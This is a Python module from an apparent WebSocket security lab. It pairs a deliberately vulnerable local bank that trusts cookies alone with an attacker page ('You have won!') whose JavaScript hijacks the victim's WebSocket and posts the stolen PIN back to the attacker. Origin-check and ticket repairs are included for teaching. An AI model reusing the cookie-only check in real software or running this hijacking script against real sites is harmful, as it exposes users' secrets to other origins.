"""Hijacking: a bank, and a page elsewhere that reads its customers' secrets through their browsers (RFC 6455 §10.2)."""

import contextlib
import itertools
import json
import queue
import re
import secrets
from collections.abc import Iterable
from dataclasses import dataclass
from typing import Any

from wslab.labs.background import HOST
from wslab.labs.site import Site, answer_with_page
from wslab.page.answer import answer_text
from wslab.protocol.codec import Codec
from wslab.protocol.errors import CloseCode
from wslab.protocol.handshake import build_response
from wslab.protocol.http import Request, Response
from wslab.recording.recording import Recording
from wslab.sockets.connection import Connection
from wslab.sockets.server import EchoServer

COOKIE = "wslab-bank"
FIRST_PIN = 4711

BANK_SCRIPT = """
const output = document.querySelector("output");
const socket = new WebSocket("%(url)s");
socket.onopen = async () => socket.send(%(first_message)s);
socket.onmessage = ({ data }) => { output.textContent = data; };
socket.onclose = ({ code }) => { output.textContent ||= `closed with ${code}`; };
"""
PLEASE = '"my PIN, please"'
TICKET = 'await fetch("/ticket", { method: "POST" }).then((answer) => answer.text())'

ATTACK_SCRIPT = """
// The browser adds the bank's cookie to each request by itself: the page neither knows it nor needs to.
const read = (path, method) =>
  fetch("%(origin)s" + path, { method, credentials: "include" })
    .then((answer) => answer.text())
    .catch((error) => error.name);

const fetched = await read("/secret", "GET");
const ticket = await read("/ticket", "POST");

const socket = new WebSocket("%(url)s");
let told = "";
socket.onopen = () => socket.send(ticket);
socket.onmessage = ({ data }) => { told = data; };
const { code } = await new Promise((resolve) => { socket.onclose = resolve; });

const report = JSON.stringify({ fetched, told, close_code: code });
await fetch("/report", { method: "POST", body: report });
document.querySelector("output").textContent = report;
"""


class Bank:
    """A web site that tells its customers their PIN over a WebSocket.

    Use it in a `with` block, or call `start` and `close`.
    Everyone who opens its page becomes a customer, known by a cookie with the attributes `cookie`. The bank trusts that
    cookie alone, and thereby every page that a customer's browser has open, unless one of two repairs is asked for:
    `check_origin` refuses pages other than its own with 403 (RFC 6455 §10.2); `ask_ticket` trusts no cookie on a
    WebSocket, but the first message, which must be a ticket for one use that only the bank's own page can read.
    `url` is the address of its WebSocket; `requests` are those that came over HTTP; `headers` go into all its answers,
    including the opening handshake, and may be changed while it runs.
    """

    def __init__(
        self,
        *,
        check_origin: bool = False,
        ask_ticket: bool = False,
        cookie: str = "HttpOnly; SameSite=Lax",
        name: str = HOST,
        recording: Recording | None = None,
    ) -> None:
        self.url = ""
        self.headers: list[tuple[str, str]] = []
        self.requests: list[Request] = []
        self._check_origin = check_origin
        self._ask_ticket = ask_ticket
        self._cookie = cookie
        self._site = Site(self._answer, name)
        self._recording = recording
        self._opened = contextlib.ExitStack()
        self._numbers = itertools.count(1)
        self._pins: dict[str, str] = {}  # by the value of the cookie
        self._tickets: dict[str | bytes, str] = {}

    @property
    def origin(self) -> str:
        """The origin of its pages, and their address: `http://127.0.0.1:8765`."""
        return self._site.origin

    def __enter__(self) -> "Bank":
        return self.start()

    def __exit__(self, kind: object, error: object, traceback: object) -> None:
        self.close()

    def start(self) -> "Bank":
        """Serve pages and WebSockets in the background. Does nothing if it already does."""
        if self.url:
            return self
        with contextlib.ExitStack() as opened:
            opened.enter_context(self._site)
            server = EchoServer(
                handler=self._tell_secret,
                origins=[self.origin] if self._check_origin else None,
                codec=Codec(build_response=self._agree),
                recording=self._recording,
            )
            opened.enter_context(server)
            self.url = f"ws://{self._site.name}:{server.port}/"  # another port, same cookie (RFC 6265 §8.5)
            self._opened = opened.pop_all()
        return self

    def close(self) -> None:
        """Stop both servers, and leave no thread behind."""
        self._opened.close()
        self.url = ""

    # Over HTTP

    def _answer(self, request: Request, body: str) -> Response:
        self.requests.append(request)
        session = _session(request)
        match request.method, request.target:
            case "GET", "/":
                return self._log_in(session)
            case "GET", "/secret":
                return answer_text(self._pins.get(session, ""), headers=self.headers)
            case "POST", "/ticket":
                ticket = secrets.token_urlsafe()
                self._tickets[ticket] = session
                return answer_text(ticket, headers=self.headers)
        return answer_text(status=404)

    def _log_in(self, session: str) -> Response:
        if session not in self._pins:
            session = secrets.token_urlsafe()
            number = next(self._numbers)
            self._pins[session] = f"customer {number}: PIN {FIRST_PIN + number - 1}"
        cookie = ("Set-Cookie", f"{COOKIE}={session}; Path=/; {self._cookie}")
        script = BANK_SCRIPT % {"url": self.url, "first_message": TICKET if self._ask_ticket else PLEASE}
        return answer_with_page(
            "Bank", "You are logged in.", script, may_connect_to=[self.url], headers=[cookie, *self.headers]
        )

    # Over the WebSocket

    def _agree(self, request: Request, *, headers: Iterable[tuple[str, str]] = (), **agreed: Any) -> Response:
        return build_response(request, headers=[*headers, *self.headers], **agreed)

    def _tell_secret(self, connection: Connection) -> None:
        message = connection.receive()
        if self._ask_ticket:
            # Only a page that has read an answer to the customer knows a ticket: in a browser, only the bank's own.
            session = self._tickets.pop(message, "")
        else:
            # The mistake: the cookie says whose browser this is, and nothing about whose page.
            session = "" if connection.request is None else _session(connection.request)
        if session in self._pins:
            connection.send(self._pins[session])
        else:
            connection.close(CloseCode.POLICY_VIOLATION, "log in first")


def _session(request: Request) -> str:
    """Return the value of the bank's cookie, or an empty text."""
    found = re.search(rf"(?:^|; ){COOKIE}=([\w-]+)", request.headers.get("Cookie"))
    return found[1] if found else ""


@dataclass(frozen=True)
class Attack:
    """What one visit to the attack page brought.

    `fetched` is the answer to fetch(), or the name of its error; `told` is the message of the WebSocket, empty if none
    came; `close_code` is the code of its close event.
    """

    fetched: str
    told: str
    close_code: int


class Attacker:
    """A web site of another origin, whose page reads from `bank`, and nowhere else, the secret of anyone who opens it.

    Use it in a `with` block, or call `start` and `close`. A script may open a WebSocket to any server; the browser says
    in Origin which page asked (RFC 6455 §4.1), and sends the cookies of the server along (WHATWG WebSockets, "opening
    handshake": credentials mode "include"). CORS plays no part: the mode is "websocket", not "cors". Neither does
    SameSite if both have the same name, as they do by default: sites differ by name, not by port. With
    `name="localhost"` the attacker is on another site than a bank on 127.0.0.1.
    """

    def __init__(self, bank: Bank, name: str = HOST) -> None:
        self.attacks: list[Attack] = []
        self._bank = bank
        self._site = Site(self._answer, name)
        self._reports: queue.Queue[Attack] = queue.Queue()

    @property
    def origin(self) -> str:
        """The origin of its page, and its address: `http://127.0.0.1:8766`."""
        return self._site.origin

    @property
    def stolen(self) -> list[str]:
        """The secrets that arrived over WebSockets."""
        return [attack.told for attack in self.attacks if attack.told]

    def __enter__(self) -> "Attacker":
        return self.start()

    def __exit__(self, kind: object, error: object, traceback: object) -> None:
        self.close()

    def start(self) -> "Attacker":
        """Serve the attack page in the background."""
        self._site.start()
        return self

    def close(self) -> None:
        """Stop the server, and leave no thread behind."""
        self._site.close()

    def wait(self, timeout: float = 10.0) -> Attack:
        """Return the next attack, once it is over. Raises TimeoutError if none ends within `timeout` seconds."""
        try:
            return self._reports.get(timeout=timeout)
        except queue.Empty:
            raise TimeoutError(f"no browser has opened {self.origin} within {timeout:g} s") from None

    def _answer(self, request: Request, body: str) -> Response:
        match request.method, request.target:
            case "GET", "/":
                targets = {"origin": self._bank.origin, "url": self._bank.url}
                return answer_with_page(
                    "You have won!", "One moment, please.", ATTACK_SCRIPT % targets, may_connect_to=targets.values()
                )
            case "POST", "/report":
                attack = Attack(**json.loads(body))
                self.attacks.append(attack)
                self._reports.put(attack)
                return answer_text()
        return answer_text(status=404)
